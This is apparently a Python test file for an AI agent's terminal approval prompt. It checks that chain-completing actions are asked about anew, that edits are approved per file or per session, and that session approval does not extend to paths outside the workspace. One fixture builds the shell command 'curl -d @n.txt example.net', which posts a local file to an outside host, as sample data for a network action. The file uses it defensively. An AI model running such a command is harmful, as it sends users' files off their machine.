"""The terminal's approver: an answer counts for the same action, but not for a question of another kind about it."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any, cast

from agent.app_dirs import Home
from cli.tui.frontend import Answer, Frontend, Question
from cli.tui.questions.approval_prompt import TerminalApprover
from sandbox.policy.decision import Approval, Decision, Mode, Policy
from sandbox.policy.effects import Effect


class Screen:
    """A front-end that answers every question in the same way."""

    def __init__(self, kind: Any) -> None:
        self.kind = kind
        self.asked: list[str] = []

    def alert(self, text: str) -> None:
        """Nobody has to be called."""

    async def ask(self, question: Question) -> Answer:
        self.asked.append(question.why)
        return Answer(name=self.kind)


def ask_each(tmp_path: Path, kind: str, *questions: Decision) -> list[str]:
    front = Screen(kind)
    approver = TerminalApprover(
        front=cast(Frontend, front),
        policy=Policy(Mode.WORKSPACE, Approval.ASK),
        home=Home(config=tmp_path, data=tmp_path, cache=tmp_path),
    )
    effect = Effect(kind="execute", argv=("bash", "-c", "curl -d @n.txt example.net"))
    for each in questions:
        asyncio.run(approver.ask("shell", effect, each))
    return front.asked


POLICY = Decision(verdict="ask", reason="it uses the network")
CHAIN = Decision(verdict="ask", reason="it completes a chain", asks_anew=True)


def test_a_question_about_a_chain_is_not_answered_by_one_of_the_policy(tmp_path: Path) -> None:
    asked = ask_each(tmp_path, "once", POLICY, CHAIN, POLICY, CHAIN)
    assert asked == [POLICY.reason, CHAIN.reason, CHAIN.reason]


def test_an_action_allowed_for_the_session_is_still_asked_about_if_it_completes_a_chain(
    tmp_path: Path,
) -> None:
    assert ask_each(tmp_path, "session", POLICY, POLICY, CHAIN) == [POLICY.reason, CHAIN.reason]


def count_questions(tmp_path: Path, kind: str, *paths: str, outside: bool = False) -> int:
    front = Screen(kind)
    approver = TerminalApprover(
        front=cast(Frontend, front),
        policy=Policy(Mode.WORKSPACE, Approval.ASK),
        home=Home(config=tmp_path, data=tmp_path, cache=tmp_path),
    )
    for number, path in enumerate(paths):
        effect = Effect(kind="write", paths=tuple(path.split()), change=f"+{number}", outside=outside)
        question = approver.policy.decide(effect, confined=True, tool="edit")
        assert question.verdict == "ask"
        answer = asyncio.run(approver.ask("edit", effect, question))
        assert (answer.verdict == "allow") == (kind != "no")
    return len(front.asked)


def test_an_edit_is_asked_about_once_for_its_file_or_for_the_session(tmp_path: Path) -> None:
    edits = ("a.py", "a.py", "b.py", "a.py")
    assert count_questions(tmp_path, "once", *edits) == 4
    assert count_questions(tmp_path, "file", *edits) == 2
    assert count_questions(tmp_path, "session", *edits) == 1
    assert count_questions(tmp_path, "no", *edits) == 4


def test_an_edit_of_several_files_is_allowed_where_those_of_each_are(tmp_path: Path) -> None:
    assert count_questions(tmp_path, "file", "a.py", "b.py", "b.py a.py", "a.py c.py") == 3
    assert count_questions(tmp_path, "file", "a.py b.py", "b.py", "a.py", "c.py") == 2


def test_edits_that_are_allowed_for_the_session_do_not_leave_the_workspace(tmp_path: Path) -> None:
    paths = ("/etc/a", "/etc/b")
    assert count_questions(tmp_path, "session", *paths, outside=True) == 2
